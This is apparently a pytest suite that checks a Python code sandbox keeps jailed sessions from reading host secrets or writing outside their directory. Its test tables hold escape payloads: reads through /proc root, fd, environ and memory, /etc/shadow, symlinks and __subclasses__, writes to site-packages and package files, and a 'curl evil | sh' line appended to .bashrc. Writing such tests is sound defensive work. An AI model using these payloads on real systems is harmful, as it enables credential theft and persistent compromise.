"""Escapes: secrets read and files written outside the session, by every path we know of.

Secrets and targets sit in world-readable, world-writable host directories, so file permissions
alone would not stop a jailed uid: only the jail layers do. The host then checks its own disk and
looks for the secret in everything the session returned or left in its directory.
"""

from __future__ import annotations

import os
import secrets
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hostside import alive, worker_pid

from codeloop import Sandbox
from codeloop.sandbox.result import RunResult

Open = Callable[..., Sandbox]
Need = Callable[..., None]


@pytest.fixture
def exposed(token: str) -> Iterator[Path]:
    """A world-readable and world-writable host directory holding ``secret.txt`` (the token)."""
    d = Path("/tmp") / f"codeloop-exposed-{secrets.token_hex(6)}"  # the name must not give the token away
    d.mkdir(mode=0o777)
    d.chmod(0o777)
    secret = d / "secret.txt"
    secret.write_text(token)
    secret.chmod(0o644)
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


def leaked(token: str, r: RunResult, sb: Sandbox) -> list[str]:
    """Where the token shows up in what the session returned or left in its directory."""
    places = [name for name in ("stdout", "stderr", "value") if token in str(getattr(r, name) or "")]
    if r.error is not None and token in f"{r.error.evalue}{r.error.traceback}":
        places.append("error")
    for root, _dirs, files in os.walk(sb.workdir):
        for name in files:
            path = Path(root, name)
            if not path.is_symlink() and token.encode() in path.read_bytes():
                places.append(str(path))
    return places


READS = {
    "by_path": "print(open({secret!r}).read())",
    "through_symlink": "import os\nos.symlink({secret!r}, 'link')\nprint(open('link').read())",
    "through_proc_1_root": "print(open('/proc/1/root' + {secret!r}).read())",
    "through_caller_root": "print(open('/proc/{host_pid}/root' + {secret!r}).read())",
    "through_caller_cwd": "print(open('/proc/{host_pid}/cwd/secret.txt').read())",
    "through_caller_fd": (
        "import os\nfor fd in range(64):\n    try:\n"
        "        print(open(f'/proc/{host_pid}/fd/{{fd}}', errors='replace').read(200))\n"
        "    except OSError:\n        pass"
    ),
    "through_shell": "import subprocess\nprint(subprocess.run(['sh', '-c', 'cat {secret}'], capture_output=True, text=True))",
    "through_subclasses": (
        "fio = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'FileIO'][0]\n"
        "print(fio({secret!r}).read())"
    ),
    "through_hardlink": "import os\nos.link({secret!r}, 'hard')\nprint(open('hard').read())",
    "all_environments": (
        "import glob\nfor p in glob.glob('/proc/*/environ'):\n    try:\n"
        "        print(open(p, 'rb').read())\n    except OSError:\n        pass"
    ),
    "caller_memory": (
        "import re\nmaps = open('/proc/{host_pid}/maps').read()\nmem = open('/proc/{host_pid}/mem', 'rb')\n"
        "for line in maps.splitlines():\n    a, b = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "    try:\n        mem.seek(a)\n        print(mem.read(b - a))\n    except OSError:\n        pass"
    ),
}


@pytest.mark.parametrize("how", sorted(READS))
def test_host_secrets_stay_unread(
    open_sandbox: Open, need: Need, exposed: Path, token: str, how: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    need("namespaces", "landlock")
    monkeypatch.chdir(exposed)  # the caller's working directory holds the secret too
    monkeypatch.setenv("CODELOOP_TEST_SECRET", token)  # and the caller's environment
    kept_open = open(exposed / "secret.txt")  # and a descriptor of the caller
    try:
        sb = open_sandbox()
        code = READS[how].format(secret=str(exposed / "secret.txt"), host_pid=os.getpid())
        r = sb.run(code)
        assert leaked(token, r, sb) == [], r
    finally:
        kept_open.close()


def test_shadow_file_stays_unread(open_sandbox: Open, need: Need) -> None:
    need("namespaces", "landlock", "uid")
    if not os.access("/etc/shadow", os.R_OK):
        pytest.skip("the host user cannot read /etc/shadow either: nothing to compare against")
    first_line = Path("/etc/shadow").read_text().splitlines()[0]
    sb = open_sandbox()
    r = sb.run("print(open('/etc/shadow').read())")
    assert first_line not in r.stdout and first_line not in r.stderr


WRITES = {
    "host_tmp": "open({target!r}, 'w').write('pwned')",
    "caller_cwd": "open('/proc/{host_pid}/cwd/{name}', 'w').write('pwned')",
    "through_symlink": "import os\nos.symlink({target!r}, 'out')\nopen('out', 'w').write('pwned')",
    "with_a_shell": "import subprocess\nsubprocess.run(['sh', '-c', 'echo pwned > {target}'])",
    "home_bashrc": "open({bashrc!r}, 'a').write('curl evil | sh')",
    "package_source": "open({package!r}, 'w').write('pwned')",
    "interpreter_site": "open({site!r}, 'w').write('import os')",
}


@pytest.mark.parametrize("how", sorted(WRITES))
def test_nothing_is_written_outside_the_session(
    open_sandbox: Open, need: Need, exposed: Path, token: str, how: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    need("namespaces", "landlock")
    import site

    import codeloop

    monkeypatch.chdir(exposed)
    bashrc = exposed / ".bashrc"
    bashrc.write_text("# host shell setup\n")
    bashrc.chmod(0o666)
    targets = {
        "target": str(exposed / f"{token}.out"),  # here the token only marks the file
        "name": f"{token}.cwd",
        "bashrc": str(bashrc),
        "package": str(Path(codeloop.__file__).parent / f"{token}.py"),
        "site": str(Path(site.getsitepackages()[0]) / f"{token}.pth"),
        "host_pid": os.getpid(),
    }
    sb = open_sandbox()
    sb.run(WRITES[how].format(**targets))
    for key in ("target", "package", "site"):
        assert not Path(str(targets[key])).exists(), targets[key]
    assert not (exposed / f"{token}.cwd").exists()
    assert bashrc.read_text() == "# host shell setup\n"


def test_caller_environment_is_not_inherited(
    open_sandbox: Open, token: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", token)
    sb = open_sandbox()
    r = sb.run("import os\nprint(dict(os.environ))\nprint(open('/proc/self/environ', 'rb').read())")
    assert token not in r.stdout


def test_other_sessions_files_and_state_are_out_of_reach(open_sandbox: Open, need: Need, token: str) -> None:
    need("namespaces", "landlock")
    a = open_sandbox()
    b = open_sandbox()
    assert a.run(f"open('secret.txt', 'w').write({token!r})\nsecret = {token!r}").status == "ok"
    a_worker = worker_pid(a)
    probe = (
        f"import os, signal\nout = []\nfor path in [{str(a.workdir / 'secret.txt')!r}, '/proc/{a_worker}/environ',\n"
        f"             '/proc/{a_worker}/cwd/secret.txt']:\n"
        "    try:\n        out.append(open(path).read())\n    except OSError as e:\n        out.append(repr(e))\n"
        f"try:\n    open({str(a.workdir / 'planted.txt')!r}, 'w').write('x')\nexcept OSError:\n    pass\n"
        f"try:\n    os.kill({a_worker}, signal.SIGKILL)\nexcept OSError:\n    pass\nprint(out)"
    )
    r = b.run(probe)
    assert leaked(token, r, b) == []
    assert not (a.workdir / "planted.txt").exists()
    assert alive(a_worker)
    assert a.run("secret").value == repr(token)


@pytest.mark.parametrize("how", ["by_path", "through_symlink", "through_shell"])
def test_control_an_unjailed_worker_does_leak(
    open_sandbox: Open, exposed: Path, token: str, how: str
) -> None:
    """The witnesses work: without the jail the same code does read the secret."""
    sb = open_sandbox(jail=False)
    r = sb.run(READS[how].format(secret=str(exposed / "secret.txt"), host_pid=os.getpid()))
    assert leaked(token, r, sb) != []


def test_control_an_unjailed_worker_does_write_outside(open_sandbox: Open, exposed: Path, token: str) -> None:
    sb = open_sandbox(jail=False)
    sb.run(WRITES["host_tmp"].format(target=str(exposed / f"{token}.out")))
    assert (exposed / f"{token}.out").exists()
